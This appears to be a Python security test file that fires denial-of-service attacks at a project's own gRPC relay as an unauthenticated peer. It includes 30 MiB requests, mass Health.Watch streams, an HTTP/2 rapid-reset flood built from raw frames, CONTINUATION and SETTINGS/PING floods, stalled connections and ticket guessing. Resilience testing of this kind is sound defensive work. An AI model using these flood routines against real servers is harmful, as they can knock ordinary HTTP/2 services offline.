"""Peers at the host's port that have shown no secret."""

import asyncio
import os
from typing import Any

import grpc
from autogen_ext.runtimes.grpc.protos import agent_worker_pb2, agent_worker_pb2_grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc

from fleet.relay import MAGIC
from tests.security.attacks import Subject, Target
from tests.security.attacks.clients import LASTS, raw, side_by_side

ATTACKS = Subject("unknown")

MIB = 1024 * 1024
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
OPTIONS = [
    ("grpc.max_send_message_length", -1),
    ("grpc.max_receive_message_length", -1),
    ("grpc.use_local_subchannel_pool", 1),
    ("grpc.enable_http_proxy", 0),
]


def channel(target: Target) -> grpc.aio.Channel:
    return grpc.aio.insecure_channel("{}:{}".format(*target.host), options=OPTIONS)


async def _watch(target: Target, calls: int, size: int) -> None:
    async with channel(target) as opened:
        stub = health_pb2_grpc.HealthStub(opened)
        watched = []
        for number in range(calls):
            watched.append(stub.Watch(health_pb2.HealthCheckRequest(service=f"{'x' * size}{number}")))
            await asyncio.sleep(0)
        await asyncio.gather(*(call.read() for call in watched), return_exceptions=True)
        await asyncio.sleep(LASTS)


@ATTACKS
async def long_watches(target: Target) -> None:
    """``Health.Watch`` with a service's name of 30 MiB."""
    await _watch(target, 40, 30 * MIB)


@ATTACKS
async def many_watches(target: Target) -> None:
    await _watch(target, 2000, 10)


@ATTACKS
async def long_checks(target: Target) -> None:
    """``Health.Check`` with a service's name of 30 MiB, again and again."""

    async def check() -> None:
        async with channel(target) as opened:
            request = health_pb2.HealthCheckRequest(service="x" * 30 * MIB)
            await health_pb2_grpc.HealthStub(opened).Check(request, timeout=10)

    await side_by_side(4, check)


@ATTACKS
async def long_registrations(target: Target) -> None:
    """A member's call of 30 MiB without the token."""

    async def register() -> None:
        async with channel(target) as opened:
            request = agent_worker_pb2.RegisterAgentTypeRequest(type="x" * 30 * MIB)
            stub: Any = agent_worker_pb2_grpc.AgentRpcStub(opened)
            await stub.RegisterAgent(request, metadata=[("client-id", "unknown")], timeout=10)

    await side_by_side(4, register)


def _field(name: bytes, value: bytes) -> bytes:
    """A header as HPACK writes it without any table."""
    return b"\x40" + bytes([len(name)]) + name + bytes([len(value)]) + value


HEADERS = bytes([0x83, 0x86, 0x44, 9]) + b"/x/y/zzzz" + bytes([0x41, 1]) + b"h"
HEADERS += _field(b"content-type", b"application/grpc") + _field(b"te", b"trailers")


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame of HTTP/2."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


@ATTACKS
async def rapid_reset(target: Target) -> None:
    """Streams that are opened and reset at once."""
    async with raw(target.host) as connection:
        await connection.send(PREFACE)
        for first in range(1, 2**31 - 1000, 400):
            streams = range(first, first + 400, 2)
            data = (frame(1, 5, stream, HEADERS) + frame(3, 0, stream, b"\0\0\0\x08") for stream in streams)
            await connection.send(b"".join(data))
            await asyncio.sleep(0)


@ATTACKS
async def endless_headers(target: Target) -> None:
    """Of one HTTP/2 stream, which go on in frame after frame."""
    async with raw(target.host) as connection:
        await connection.send(PREFACE + frame(1, 1, 1, HEADERS))
        await connection.flood(frame(9, 0, 1, _field(b"x-a", b"a" * 100) * 100))


@ATTACKS
async def settings_and_pings(target: Target) -> None:
    """HTTP/2 frames that each want an answer, of which none is read."""
    _, writer = await asyncio.open_connection(*target.host, limit=1024)
    try:
        writer.write(PREFACE)
        for _ in range(100_000):
            writer.write(frame(4, 0, 0, b"") * 200 + frame(6, 0, 0, bytes(8)) * 200)
            await writer.drain()
            await asyncio.sleep(0)
    finally:
        writer.transport.abort()


@ATTACKS
async def silent_connections(target: Target) -> None:
    """A thousand that stay in the middle of each beginning."""

    async def hold(data: bytes) -> None:
        async with raw(target.host) as connection:
            await connection.send(data)
            await connection.closed()

    async with asyncio.TaskGroup() as group:
        for begun in (b"", MAGIC[:5], MAGIC, PREFACE[:10], PREFACE):
            group.create_task(side_by_side(200, lambda begun=begun: hold(begun)))  # type: ignore[misc]


@ATTACKS
async def guessed_tickets(target: Target) -> None:
    async def guess() -> None:
        async with raw(target.host) as connection:
            await connection.send(MAGIC + b"\0\0\0\x20" + os.urandom(16).hex().encode())
            await connection.closed()

    await side_by_side(50, guess)


@ATTACKS
async def frames_without_a_ticket(target: Target) -> None:
    async with raw(target.host) as connection:
        await connection.send(MAGIC)
        await connection.flood(b"\0\0\0\x01\0" * 10_000)
